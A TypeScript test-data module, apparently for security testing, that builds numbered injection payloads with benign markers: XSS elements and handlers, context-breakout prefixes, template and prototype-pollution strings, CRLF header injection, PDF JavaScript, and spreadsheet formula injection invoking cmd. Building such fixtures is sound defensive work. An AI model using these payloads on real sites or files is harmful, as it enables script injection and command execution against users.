/** Texts that run a script, load an address or become elements where a page forgets to escape them. */
import type { SeededRandom } from '@thali/builders/seeded-random'

export interface Payload {
  /** Number that its script passes to `run`. */
  readonly id: number
  /** Text of one line, without blanks at its ends. */
  readonly text: string
}

/** Writes a payload: `run(1)` is called, `//p1.test` is loaded, and `x-p1` becomes an element. */
type Carrier = (script: string, address: string, name: string) => string

/** Elements that run by themselves, or once they are touched. */
const ELEMENTS: readonly Carrier[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt >${script}</sCrIpT>`,
  (script) => `<<script>${script}//<</script>`,
  (_, address) => `<script src=${address}></script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img/src=x/onerror=${script}>`,
  (script) => `<img src=x onerror=${script}//`,
  (script) => `<IMG SRC=x ONERROR="${script}">`,
  (_, address) => `<img srcset=${address}/x>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg/onload=${script}//`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<svg><a xlink:href=javascript:${script}><text>x</text></a>`,
  (script) => `<math><mtext><img src=x onerror=${script}></mtext></math>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src=javascript:parent.${script}></iframe>`,
  (script) => `<iframe onload=${script}></iframe>`,
  (script) => `<details open ontoggle=${script}>x</details>`,
  (script) => `<video src=x onerror=${script}></video>`,
  (script) => `<audio src=x onerror=${script}></audio>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<select autofocus onfocus=${script}></select>`,
  (script) => `<body onload=${script}>`,
  (script) => `<style onload=${script}></style>`,
  (script) => `<marquee onstart=${script}>x</marquee>`,
  (_, address) => `<style>@import'${address}/x'</style>`,
  (_, address) => `<style>*{background:url(${address}/x)}</style>`,
  (_, address) => `<link rel=stylesheet href=${address}/x>`,
  (_, address) => `<object data=${address}/x></object>`,
  (_, address) => `<embed src=${address}/x>`,
  (_, address) => `<base href=${address}>`,
  (_, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_, address) => `<p style=background:url(${address}/x)>x</p>`,
  (_, address) => `<table background=${address}/x><td>x</table>`,
  (script) => `<a href=javascript:${script}>x</a>`,
  (script) => `<button formaction=javascript:${script} form=x>x</button>`,
  (script, _, name) => `<${name} onclick=${script}>x</${name}>`,
  (script, _, name) => `<${name} style=animation-name:x onanimationend=${script}>`,
  (_, __, name) => `<${name}>x</${name}>`,
  (script) => `<template shadowrootmode=open><img src=x onerror=${script}></template>`,
]

/** Texts that end the context in which a field's text is placed. */
const BREAKOUTS = [
  '">',
  "'>",
  '>',
  '"/>',
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</template>',
  '</noscript>',
  '</select>',
  '</svg>',
  '"]}</script>',
] as const

/**
 * Payloads that harm in one kind of context: an address, attribute, script, style, template, spreadsheet or
 * paper.
 */
const OTHERS: readonly Carrier[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `javascript://x%0a${script}`,
  (script) => `java&#115;cript:${script}`,
  (script) => `&#106;avascript:${script}`,
  (script) => `vbscript:${script}`,
  (script) => `data:text/html,<script>parent.${script}</script>`,
  (script) => `" onmouseover=${script} x="`,
  (script) => `' onmouseover=${script} x='`,
  (script) => `\` onmouseover=${script} x=\``,
  (script) => `" autofocus onfocus=${script} x="`,
  (script) => `' autofocus onfocus=${script} x='`,
  (script) => `x onload=${script} autofocus onfocus=${script}`,
  (_, address) => `" style="background:url(${address}/x)`,
  (script) => `';${script}//`,
  (script) => `";${script}//`,
  (script) => `\\';${script}//`,
  (script) => `\\";${script}//`,
  (script) => `'-${script}-'`,
  (script) => `"-${script}-"`,
  (script) => `\`-${script}-\``,
  (script) => `\${${script}}`,
  (script) => `\\u003cimg src=x onerror=${script}\\u003e`,
  (script) => `\\x3csvg onload=${script}\\x3e`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `&lt;img src=x onerror=${script}&gt;`,
  (script) => `&#60;svg onload=${script}&#62;`,
  (script) => `&amp;lt;script&amp;gt;${script}`,
  (script) => `&quot; onfocus=${script} autofocus x=&quot;`,
  (script) => `＜script＞${script}＜/script＞`,
  (script) => `‹img src=x onerror=${script}›`,
  (script) => `<ſcript>${script}</ſcript>`,
  (script) => `<İmg src=x onerror=${script}>`,
  (script) => `<img\u00a0src=x onerror=${script}>`,
  (script) => `{{${script}}}`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `<%= ${script} %>`,
  (script) => `#{${script}}`,
  (script) => `[[\${${script}}]]`,
  (script) => `<!--[if gte IE 4]><script>${script}</script><![endif]-->`,
  (script) => `<!--><img src=x onerror=${script}>`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) => `<?xml-stylesheet href="javascript:${script}"?>`,
  (_, address) => `red;background:url(${address}/x)`,
  (_, address) => `red}*{background:url(${address}/x)}`,
  (_, address) => `red}@import'${address}/x';`,
  (script) => `expression(${script})`,
  (script) => `[x](javascript:${script})`,
  (script) => `[x](data:text/html,<script>${script}</script>)`,
  (_, address) => `![x](${address}/x)`,
  (script) => `<javascript:${script}>`,
  (script) => `{"__proto__":{"x":"${script}"}}`,
  (script) => `","@type":"x","y":"${script}`,
  (_, address) => `=HYPERLINK("${address}","x")`,
  (_, __, name) => `=1+cmd|' /C ${name}'!A0`,
  (_, __, name) => `+1+cmd|' /C ${name}'!A0`,
  (_, __, name) => `-1+cmd|' /C ${name}'!A0`,
  (_, __, name) => `@SUM(1)*cmd|' /C ${name}'!A0`,
  (_, __, name) => `","=1+cmd|' /C ${name}'!A0`,
  (_, __, name) => `;=1+cmd|' /C ${name}'!A0`,
  (_, __, name) => `＝1+cmd|' /C ${name}'!A0`,
  (script) => `=?utf-8?q?=3Cscript=3E${script}?=`,
  (script) => `%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>${script}</script>`,
  (script) => `) /S /JavaScript /JS (${script}`,
  (script) => `endobj 1 0 obj <</S/JavaScript/JS(${script})>> endobj`,
  (_, __, name) => `<span size="99999999" id="${name}">x</span>`,
  (_, __, name) => `<b><i>&${name};`,
  (script) => `__proto__[${script}]`,
]

/** Elements that need no more than a place that was ended. */
const SHORT = ELEMENTS.filter((carrier) => carrier('run(1)', '//p1.test', 'x-p1').length < 60)

const CARRIERS: readonly Carrier[] = [
  ...ELEMENTS,
  ...OTHERS,
  ...SHORT.flatMap((element) =>
    BREAKOUTS.map(
      (end): Carrier =>
        (...parts) =>
          end + element(...parts),
    ),
  ),
]

/** Number of different payloads. */
export const PAYLOADS = CARRIERS.length

/** Draws payloads, no two alike. Those that harm by themselves come before those that end a place first. */
export function drawPayloads(random: SeededRandom, count: number): Payload[] {
  const plain = shuffled(random, CARRIERS.slice(0, ELEMENTS.length + OTHERS.length))
  const ending = shuffled(random, CARRIERS.slice(plain.length))
  return [...plain, ...ending].slice(0, count).map((carrier, at) => {
    const id = at + 1
    return { id, text: carrier(`run(${id})`, `//p${id}.test`, `x-p${id}`) }
  })
}

function shuffled<T>(random: SeededRandom, all: readonly T[]): T[] {
  const rest = [...all]
  return all.map(() => rest.splice(random.between(0, rest.length - 1), 1)[0] as T)
}
